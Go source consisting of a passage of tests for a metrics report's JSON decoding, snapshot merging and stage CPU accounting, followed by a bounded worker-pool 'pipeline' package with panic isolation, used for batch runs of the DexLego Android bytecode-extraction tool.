	back, err := DecodeReport(data)
	if err != nil {
		t.Fatal(err)
	}
	if back.Jobs != 2 || back.Apps[0].Obs.Events["tree_fork"] != 2 {
		t.Errorf("decoded report wrong: %+v", back)
	}
	if back.Obs == nil || back.Obs.Events["tree_fork"] != 2 {
		t.Errorf("batch obs snapshot missing: %+v", back.Obs)
	}

	// Unknown stage names are a schema violation, not data.
	corrupt := strings.Replace(string(data), `"collection"`, `"linking"`, 1)
	if _, err := DecodeReport([]byte(corrupt)); err == nil {
		t.Error("unknown stage in report must be rejected")
	}
	// Accounting violations of successful apps are rejected too.
	overrun := strings.Replace(string(data), `"wallNS": 100`, `"wallNS": 10`, 1)
	if _, err := DecodeReport([]byte(overrun)); err == nil ||
		!strings.Contains(err.Error(), "double-counted") {
		t.Errorf("stage overrun must be rejected, got %v", err)
	}
	if _, err := DecodeReport([]byte("{")); err == nil {
		t.Error("truncated JSON must be rejected")
	}
}

func TestBuildReportMergesObsSnapshots(t *testing.T) {
	apps := []AppMetrics{
		{Name: "a", WallNS: 10, Obs: &obs.Snapshot{
			Events: map[string]int64{"tree_fork": 2}, MaxTreeDepth: 2}},
		{Name: "b", WallNS: 10, Obs: &obs.Snapshot{
			Events: map[string]int64{"tree_fork": 1, "stub_emitted": 3}, MaxTreeDepth: 4}},
		{Name: "c", Err: "failed", Obs: &obs.Snapshot{
			Events: map[string]int64{"tree_fork": 99}}}, // failed: excluded
	}
	r := BuildReport(1, 20, apps)
	if r.Obs == nil {
		t.Fatal("report obs snapshot missing")
	}
	if r.Obs.Events["tree_fork"] != 3 || r.Obs.Events["stub_emitted"] != 3 {
		t.Errorf("merged events wrong: %+v", r.Obs.Events)
	}
	if r.Obs.MaxTreeDepth != 4 {
		t.Errorf("merged MaxTreeDepth = %d, want 4", r.Obs.MaxTreeDepth)
	}
	// No tracing anywhere -> no snapshot key in the JSON at all.
	plain := BuildReport(1, 10, []AppMetrics{{Name: "x", WallNS: 5}})
	data, err := plain.JSON()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(data), `"obs"`) {
		t.Error("untraced report must omit the obs key")
	}
}

func TestStageCPUAccounting(t *testing.T) {
	var m AppMetrics
	m.AddStage(StageForceExec, 10*time.Millisecond)
	// Aggregate worker CPU may exceed wall — that is the parallelism.
	m.AddStageCPU(StageForceExec, 25*time.Millisecond)
	m.AddStageCPU(StageForceExec, 5*time.Millisecond)
	if got := m.StageCPU(StageForceExec); got != 30*time.Millisecond {
		t.Errorf("StageCPU = %v, want 30ms", got)
	}
	if got := m.StageWall(StageForceExec); got != 10*time.Millisecond {
		t.Errorf("StageWall = %v, want 10ms", got)
	}
	m.WallNS = int64(10 * time.Millisecond)
	if err := m.Validate(); err != nil {
		t.Errorf("CPU > wall must validate (parallel stage): %v", err)
	}

	// CPU recorded before wall still lands in one entry.
	var m2 AppMetrics
	m2.AddStageCPU(StageReassembly, time.Millisecond)
	m2.AddStage(StageReassembly, 2*time.Millisecond)
	if len(m2.Stages) != 1 || m2.StageCPU(StageReassembly) != time.Millisecond {
		t.Errorf("CPU-first entry did not merge: %+v", m2.Stages)
	}

	bad := AppMetrics{WallNS: 10, Stages: []StageTiming{{Stage: StageCollection, WallNS: 1, CPUNS: -1}}}
	if err := bad.Validate(); err == nil || !strings.Contains(err.Error(), "negative cpu") {
		t.Errorf("negative CPU must be rejected, got %v", err)
	}

	// CPU survives the report round trip and aggregates in stage totals.
	apps := []AppMetrics{
		{Name: "a", WallNS: 100, Stages: []StageTiming{{Stage: StageForceExec, WallNS: 50, CPUNS: 180}}},
		{Name: "b", WallNS: 100, Stages: []StageTiming{{Stage: StageForceExec, WallNS: 40, CPUNS: 120}}},
	}
	data, err := BuildReport(2, 200, apps).JSON()
	if err != nil {
		t.Fatal(err)
	}
	back, err := DecodeReport(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(back.StageTotals) != 1 || back.StageTotals[0].CPUNS != 300 || back.StageTotals[0].WallNS != 90 {
		t.Errorf("stage totals did not aggregate CPU: %+v", back.StageTotals)
	}
}
