// Package pipeline is the concurrent batch-execution substrate for
// corpus-scale DexLego runs. The paper evaluates whole corpora — the four
// AOSP applications of Table I, the nine packed market applications of
// Table V, the F-Droid coverage apps of Tables VI/VII — and every app in
// such a corpus is independent, so batch extraction is embarrassingly
// parallel. A Pipeline runs jobs over a bounded worker pool with per-job
// panic isolation (one bad APK must not kill the batch) and deterministic,
// submission-ordered results regardless of completion order.
//
// The package also defines the structured per-stage metrics model
// (StageTiming, AppMetrics) and its aggregation into a batch Report with a
// JSON encoding; dexlego.Reveal fills AppMetrics per app and
// dexlego.RevealBatch assembles the Report.
package pipeline

import (
	"fmt"
	"runtime"
	"runtime/debug"
	"sync"
)

// Pipeline is a bounded worker pool. The zero value runs with
// runtime.GOMAXPROCS(0) workers.
type Pipeline struct {
	// Workers caps the number of jobs in flight; values <= 0 select
	// runtime.GOMAXPROCS(0).
	Workers int
}

// New returns a pipeline with the given worker cap (<= 0 for the
// GOMAXPROCS default).
func New(workers int) *Pipeline { return &Pipeline{Workers: workers} }

// WorkerCount resolves the effective parallelism for a batch of n jobs.
func (p *Pipeline) WorkerCount(n int) int {
	w := p.Workers
	if w <= 0 {
		w = runtime.GOMAXPROCS(0)
	}
	if w > n {
		w = n
	}
	if w < 1 {
		w = 1
	}
	return w
}

// PanicError is a panic recovered from a job, preserving the panic value
// and the stack of the panicking goroutine.
type PanicError struct {
	Value any
	Stack []byte
}

func (e *PanicError) Error() string {
	return fmt.Sprintf("pipeline: job panicked: %v", e.Value)
}

// Run invokes fn(i) for every i in [0, n) across the worker pool and
// returns one error slot per job, in job order: nil on success, the error
// fn returned, or a *PanicError if fn panicked. Run itself never panics on
// a job's behalf; a batch always completes.
func (p *Pipeline) Run(n int, fn func(i int) error) []error {
	errs := make([]error, n)
	if n == 0 {
		return errs
	}
	workers := p.WorkerCount(n)
	if workers == 1 {
		for i := 0; i < n; i++ {
			errs[i] = runJob(fn, i)
		}
		return errs
	}
	jobs := make(chan int)
	var wg sync.WaitGroup
	wg.Add(workers)
	for w := 0; w < workers; w++ {
		go func() {
			defer wg.Done()
			for i := range jobs {
				errs[i] = runJob(fn, i)
			}
		}()
	}
	for i := 0; i < n; i++ {
		jobs <- i
	}
	close(jobs)
	wg.Wait()
	return errs
}

// runJob isolates one job: a panic becomes a *PanicError instead of
// unwinding the worker.
func runJob(fn func(int) error, i int) (err error) {
	defer func() {
		if v := recover(); v != nil {
			err = &PanicError{Value: v, Stack: debug.Stack()}
		}
	}()
	return fn(i)
}

// Isolate runs fn under the pool's panic isolation: a panic becomes a
// *PanicError return instead of unwinding the caller. The reveal service
// uses it so one bad APK fails its job, never the serving process.
func Isolate(fn func() error) error {
	return runJob(func(int) error { return fn() }, 0)
}

// ParallelDo runs fn(i) for every i in [0, n) across a bounded worker set
// and returns the lowest-index error (a panicking job surfaces as a
// *PanicError). workers <= 0 selects runtime.GOMAXPROCS(0); workers == 1 or
// n == 1 runs serially on the calling goroutine with no allocations beyond
// fn's own. It is the synchronous fan-out primitive shared by the DEX
// builder's parallel bytecode remap and the reassembler's parallel method
// assembly, where deterministic error selection keeps serial and parallel
// runs observably identical.
func ParallelDo(workers, n int, fn func(i int) error) error {
	if n <= 0 {
		return nil
	}
	p := Pipeline{Workers: workers}
	if p.WorkerCount(n) == 1 {
		for i := 0; i < n; i++ {
			if err := runJob(fn, i); err != nil {
				return err
			}
		}
		return nil
	}
	return FirstError(p.Run(n, fn))
}

// Map runs fn over [0, n) and collects the results in job order. The
// result slot of a failed job is the zero value of T; errs follows the
// same contract as Run.
func Map[T any](p *Pipeline, n int, fn func(i int) (T, error)) (out []T, errs []error) {
	out = make([]T, n)
	errs = p.Run(n, func(i int) error {
		v, err := fn(i)
		if err != nil {
			return err
		}
		out[i] = v
		return nil
	})
	return out, errs
}

// FirstError returns the first non-nil error in job order, or nil.
func FirstError(errs []error) error {
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}
